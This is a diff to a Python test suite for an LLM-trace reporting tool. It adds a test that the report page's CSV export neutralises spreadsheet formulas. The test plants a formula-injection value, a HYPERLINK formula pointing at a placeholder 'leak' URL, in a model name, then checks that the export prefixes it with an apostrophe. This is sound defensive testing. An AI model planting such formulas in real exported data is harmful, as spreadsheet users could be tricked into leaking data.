@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 from datetime import date, datetime
@@ -314,6 +316,26 @@ def test_report_of_a_store_whose_spans_miss_sampled_calls_says_what_its_figures_
     page = open_report(watched, out)
     note = page.locator("#filter-note").inner_text()
     assert note.startswith(f"Part of the calls: the spans in {db} hold 2 of the 4 LLM calls"), note
+    watched.assert_clean(out.as_uri())
+
+
+def test_the_pages_csv_marks_text_a_spreadsheet_would_run_as_a_formula(watched: Watched, tmp_path: Path) -> None:
+    """A model named ``=HYPERLINK(...)`` downloaded from the page's CSV button opened in a spreadsheet as a
+    live formula (the CLI's and the API's CSV already marked it): the page writes the cell as the CLI does."""
+    model = '=HYPERLINK("http://example.invalid/?leak","click")'
+    generate(tmp_path / "data", seed=3, traces=6, spans_per_line=8)
+    traces = tmp_path / "data" / "traces.jsonl"
+    text = traces.read_text()
+    assert '"gpt-4o-mini"' in text
+    traces.write_text(text.replace('"gpt-4o-mini"', json.dumps(model)))
+    db, out = tmp_path / "f.duckdb", tmp_path / "f.html"
+    cli("report", "--ingest", str(tmp_path / "data"), "--db", str(db), "-o", str(out))
+    page = open_report(watched, out)
+    keys = {row["key"] for row in read_csv(download(page, "[data-export='models.csv']", tmp_path))}
+    from_cli = {row["key"] for row in csv.DictReader(io.StringIO(
+        cli("summary", "--by", "model", "--db", str(db), "--format", "csv").stdout))}
+    assert "'" + model in keys and model not in keys
+    assert keys == from_cli
     watched.assert_clean(out.as_uri())
 
 
